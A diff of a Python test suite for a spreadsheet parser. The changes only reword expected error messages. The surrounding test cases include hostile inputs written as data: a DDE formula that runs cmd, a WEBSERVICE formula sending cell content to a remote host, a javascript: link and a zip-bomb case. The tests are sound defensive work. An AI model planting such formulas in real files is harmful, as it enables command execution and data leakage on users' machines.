@@ -73,17 +73,17 @@ def _odd_cells() -> Iterator[Case]:
         ("address-long", f'<row><c r="{"A" * 10_000}1"><v>9</v></c></row>', "which no sheet has"),
         ("type-unknown", '<row><c t="zzz"><v>9</v></c></row>', "9"),
         ("type-number-of-text", '<row><c t="n"><v>nine</v></c></row>', "nine"),
-        ("text-index-huge", '<row><c t="s"><v>99999999999999999999</v></c></row>', "does not hold"),
-        ("text-index-word", '<row><c t="s"><v>one</v></c></row>', "does not hold"),
+        ("text-index-huge", '<row><c t="s"><v>99999999999999999999</v></c></row>', "does not have"),
+        ("text-index-word", '<row><c t="s"><v>one</v></c></row>', "does not have"),
         ("number-of-many-digits", f"<row><c><v>{'9' * 5_000}</v></c></row>", "999"),
-        ("number-arabic", "<row><c><v>٩</v></c></row>", "holds none"),
-        ("number-hex", "<row><c><v>0x1F</v></c></row>", "holds none"),
+        ("number-arabic", "<row><c><v>٩</v></c></row>", "is not one"),
+        ("number-hex", "<row><c><v>0x1F</v></c></row>", "is not one"),
         ("style-huge", '<row><c s="99999999999999999999"><v>9</v></c></row>', "9"),
         ("style-word", '<row><c s="bold"><v>9</v></c></row>', "9"),
         ("error-unknown", '<row><c t="e"><v>#NEW_ERROR!</v></c></row>', "#NEW_ERROR!"),
         ("boolean-odd", '<row><c t="b"><v>maybe</v></c></row>', "False"),
-        ("date-odd", '<row><c t="d"><v>someday</v></c></row>', "holds none"),
-        ("date-out-of-range", '<row><c t="d"><v>2022-13-45T99:99:99Z</v></c></row>', "holds none"),
+        ("date-odd", '<row><c t="d"><v>someday</v></c></row>', "is not one"),
+        ("date-out-of-range", '<row><c t="d"><v>2022-13-45T99:99:99Z</v></c></row>', "is not one"),
         ("formula-web", '<row><c t="str"><f>WEBSERVICE("http://x/"&amp;A1)</f><v>9</v></c></row>', "9"),
         ("formula-long", f"<row><c><f>{'1+' * 50_000}1</f><v>9</v></c></row>", "9"),
         ("formula-dde", "<row><c t='str'><f>cmd|'/c calc'!A0</f><v>9</v></c></row>", "9"),
@@ -112,7 +112,7 @@ def _odd_links() -> Iterator[Case]:
     yield Case("parts-over-and-over", heavy.data(), Trouble.UNSAFE, over, limits=Limits(unpacked_mib=1))
     yield Case("sheet-is-the-workbook", zipped(parts), None, "")
     parts["_rels/.rels"] = relationships(link("rId1", "officeDocument", "xl/worksheets/sheet1.xml"))
-    yield Case("workbook-is-a-sheet", zipped(parts), Trouble.NOT_A_WORKBOOK, "no workbook")
+    yield Case("workbook-is-a-sheet", zipped(parts), Trouble.NOT_A_WORKBOOK, "not a workbook")
     yield Case("javascript-link", _linked("javascript:alert(1)"), None, "javascript:alert(1)")
     yield Case("file-link", _linked("file://server/share"), None, "file://server/share")
 
